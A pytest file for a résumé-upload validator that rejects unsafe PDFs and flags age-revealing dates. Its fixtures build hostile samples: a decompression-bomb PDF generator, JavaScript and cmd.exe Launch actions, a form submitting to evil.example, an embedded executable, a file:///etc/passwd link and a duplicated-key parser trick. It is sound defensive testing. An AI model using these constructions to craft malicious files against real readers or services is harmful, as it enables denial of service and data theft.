"""What a file may be to be somebody's résumé, and what is found in it."""

import subprocess
import zlib
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.utils import timezone
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from enrollment.demo.resume import made
from jobs.candidates.resume import reading
from jobs.candidates.resume.limits import MOST_BYTES
from tests.jobs.candidates.resume.papers import drawn, paper

PAGE = "Web developer who builds pages.\n"


def action(name: str, where: str = "root", **more: str) -> Any:
    def put(writer: PdfWriter) -> None:
        words = {NameObject(f"/{key}"): TextStringObject(value) for key, value in more.items()}
        made = DictionaryObject({NameObject("/S"): NameObject(f"/{name}"), **words})
        if where == "page":
            writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): made})
        else:
            writer._root_object[NameObject("/OpenAction")] = writer._add_object(made)

    return put


def bomb() -> bytes:
    """A page of 3 GB, in a file of a few kilobytes."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"q " * 500_000) for _turn in range(3000)) + packer.flush()
    twice = zlib.compress(packed, 9)
    head = b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>" % len(twice)
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >> endobj\n"
        b"4 0 obj " + head + b" stream\n" + twice + b"\nendstream endobj\n"
        b"trailer << /Root 1 0 R >>\n%%EOF"
    )


REFUSED: dict[str, tuple[Any, str]] = {
    "nothing": (b"", "empty"),
    "2 MB and a byte": (b"%PDF-1.7" + b" " * MOST_BYTES, "large"),
    "a picture": (b"\x89PNG\r\n\x1a\n" + b"x" * 900, "type"),
    "a page of HTML": (b"<html><script>alert(1)</script></html>", "type"),
    "only the beginning": (b"%PDF-1.7\n", "broken"),
    "cut in the middle": (lambda: paper()[:200], "broken"),
    "eleven pages": (lambda: paper(*[PAGE] * 11), "long"),
    "a password": (lambda: paper(also=lambda writer: writer.encrypt("secret")), "encrypted"),
    "an empty password": (lambda: paper(also=lambda writer: writer.encrypt("", "owner")), "encrypted"),
    "JavaScript on a page": (lambda: paper(also=action("JavaScript", "page", JS="app.alert(1)")), "active"),
    "JavaScript when opened": (lambda: paper(also=action("JavaScript", JS="app.alert(1)")), "active"),
    "a program that starts": (lambda: paper(also=action("Launch", F="cmd.exe")), "active"),
    "a form that sends": (lambda: paper(also=action("SubmitForm", F="https://evil.example")), "active"),
    "another file": (lambda: paper(also=lambda writer: writer.add_attachment("a.exe", b"MZ")), "active"),
    "a Social Security number": (lambda: paper("Ana Rivera\nSSN 123-45-6789"), "number"),
    "the same in one": (lambda: paper("Social Security number: 123456789"), "number"),
    "a bomb": (bomb, "broken"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_refused_with_its_own_sentence(name: str) -> None:
    content, code = REFUSED[name]
    with pytest.raises(ValidationError) as refused:
        reading.read(content() if callable(content) else content)
    assert refused.value.code == code
    assert refused.value.messages == [reading.SENTENCES[code]]


def test_what_another_program_would_read_is_not_kept() -> None:
    """A key that stands twice: we read the first, a browser the last. The file that is kept has it once."""
    twice = b"/Type /Catalog /OpenAction null /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    content = paper()
    assert b"/Type /Catalog" in content
    got = reading.read(content.replace(b"/Type /Catalog", twice, 1))
    assert got.clean.startswith(b"%PDF-")
    assert b"JavaScript" not in got.clean


def test_an_action_behind_a_reference_is_seen() -> None:
    def put(writer: PdfWriter) -> None:
        kind = writer._add_object(NameObject("/Launch"))
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({NameObject("/S"): kind})

    with pytest.raises(ValidationError) as refused:
        reading.read(paper(also=put))
    assert refused.value.code == "active"


def test_the_copy_keeps_the_pages_alone() -> None:
    def put(writer: PdfWriter) -> None:
        writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="file:///etc/passwd"))
        writer.add_metadata({"/Author": "Ana Rivera"})

    clean = reading.read(paper(PAGE, PAGE, also=put)).clean
    assert b"passwd" not in clean
    assert b"Ana Rivera" not in clean
    assert reading.read(clean).pages == 2


def test_a_file_that_takes_too_long_is_let_go(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "SECONDS", 0.01)
    with pytest.raises(ValidationError) as refused:
        reading.read(paper())
    assert refused.value.code == "broken"


def test_nothing_of_ours_is_there_for_the_reader(monkeypatch: pytest.MonkeyPatch) -> None:
    given: dict[str, Any] = {}

    def run(*args: Any, **kwargs: Any) -> Any:
        given.update(kwargs)
        return subprocess.CompletedProcess(args, 0, b'{"pages": 1, "dates": [], "text": true}')

    monkeypatch.setattr(subprocess, "run", run)
    reading.read(paper())
    assert given["env"] == {}


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (PAGE, []),
        ("Five years of experience, 2019 to 2024.", []),
        ("Call 503-555-0100 or write. Portland, OR 97209-1234.", []),
        ("Date of birth: see below.", ["Date of birth"]),
        ("I am 54 years old.", ["54 years old"]),
        ("Portland Community College, 2015", ["Community College, 2015"]),
        ("2011 - 2015\nGrant High School", ["2011 - 2015 Grant High School"]),
        ("Education\nPortland State\n1998", ["Education Portland State 1998"]),
        ("Edad: 45", ["Edad: 45"]),
        ("Born: 3 March 1970", ["Born: 3 March 1970"]),
        ("B.S. Computer Science, Oregon State, 1994", ["B.S. Computer Science, Oregon State, 1994"]),
        ("Nacida en Lima, 1990", ["Nacida en Lima, 1990"]),
        ("MS Office 2016, HTML and CSS", []),
    ],
)
def test_personal_dates_are_found_as_they_are_written(text: str, found: list[str]) -> None:
    got = reading.read(paper(f"{PAGE}{text}"))
    assert [" ".join(one.split()) for one in got.dates] == [one.replace("Community ", "") for one in found]
    assert (got.pages, got.has_text) == (1, True)


def test_dates_beside_the_pages_are_found_too() -> None:
    got = reading.read(paper(also=lambda writer: writer.add_metadata({"/Title": "Ana Rivera, class of 2015"})))
    assert got.dates == ["class of 2015"]


def test_a_page_that_is_drawn_cannot_be_searched_and_a_blank_one_need_not_be() -> None:
    assert not reading.read(paper(PAGE, also=drawn)).has_text
    assert not reading.read(paper(PAGE, PAGE, also=drawn)).has_text
    assert reading.read(paper(PAGE, "")).has_text
    assert not reading.read(paper("")).has_text


def test_links_on_a_page_are_fine() -> None:
    link = Link(rect=(0, 0, 9, 9), url="https://example.org")
    assert reading.read(paper(also=lambda writer: writer.add_annotation(0, link))).has_text


def test_the_demo_learner_gives_one_that_could_be_given() -> None:
    content = made("Ana Rivera", timezone.now())
    assert reading.read(content) == reading.Found(pages=1, dates=[], has_text=True)
